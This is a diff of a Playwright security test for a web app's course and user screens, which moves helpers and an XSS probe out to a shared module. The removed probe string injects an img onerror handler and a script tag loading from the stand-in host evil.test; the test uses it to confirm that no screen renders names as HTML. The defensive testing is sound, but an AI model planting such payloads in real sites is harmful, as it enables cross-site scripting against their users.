@@ -1,24 +1,11 @@
-import { expect, type Page, test } from '@playwright/test';
+import { expect, test } from '@playwright/test';
 import { screenKeys, screenOf } from '../../shared/access/screens.ts';
 import { CREATE, EDIT, text } from '../fixtures/courses.ts';
 import { png } from '../fixtures/images.ts';
 import { changeReply } from './broken-calls.ts';
 import { askAs, enrol, type JourneyCourse, publishPage, uploadAs } from './journey-data.ts';
+import { listen, MARKUP, visited } from './markup.ts';
 import { at, signIn } from './walk.ts';
-
-/** Everything the browser's policy refused on the pages that follow, by what was refused. */
-async function listen(page: Page): Promise<string[]> {
-  const refused: string[] = [];
-  await page.exposeFunction('tellOfRefusal', (what: string) => void refused.push(what));
-  await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample, sourceFile }) => {
-      const { tellOfRefusal } = globalThis as unknown as { tellOfRefusal: (what: string) => void };
-      tellOfRefusal(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sample} ${sourceFile}`);
-    });
-  });
-  page.on('pageerror', (error) => refused.push(`${page.url()}: ${error.message}`));
-  return refused;
-}
 
 /** Every screen that is built, with something in the place of its parameters. */
 function pathsOf(values: Readonly<Record<string, string>>): string[] {
@@ -31,9 +18,6 @@ function pathsOf(values: Readonly<Record<string, string>>): string[] {
     );
   });
 }
-
-/** What a browser that took a name for markup would ask for, and run. */
-const MARKUP = '"><img src=//evil.test onerror="self.broken=1"><script src=//evil.test/s></script>';
 
 /** Makes one of everything that has a name or a title, with markup in it. Returns the ids by which screens show them. */
 async function entitiesOfMarkup(): Promise<Record<'id' | 'course' | 'user' | 'branch' | 'group' | 'category', string>> {
@@ -91,19 +75,7 @@ test('no screen writes HTML against the Trusted Types policy, which is enforced,
   const refused = await listen(page);
   const made = await entitiesOfMarkup();
   const values = { ...made, instanceId: '1', code: 'none' };
-  page.on('request', (request) => {
-    if (request.url().includes('evil.test')) refused.push(`${page.url()}: asked for ${request.url()}`);
-  });
-  const visit = async (paths: readonly string[]): Promise<void> => {
-    for (const path of paths) {
-      await page.goto(at('acme', path));
-      // An admin without a branch has nothing to choose: the instance opens by itself, and a page that is leaving cannot be left.
-      if (path.startsWith('/choose-branch')) await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
-      await expect(page.locator('h1, [role="alert"]').first()).toBeVisible();
-      await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
-      expect([path, await page.evaluate(() => 'broken' in window)]).toEqual([path, false]);
-    }
-  };
+  const visit = (paths: readonly string[]): Promise<void> => visited(page, 'acme', paths);
   const all = pathsOf(values).filter((path) => path !== '/logout');
   await visit(all.filter((path) => /^\/(login|forgot|password|set-|verify)/.test(path)));
   await signIn(page, 'admin@acme.test');
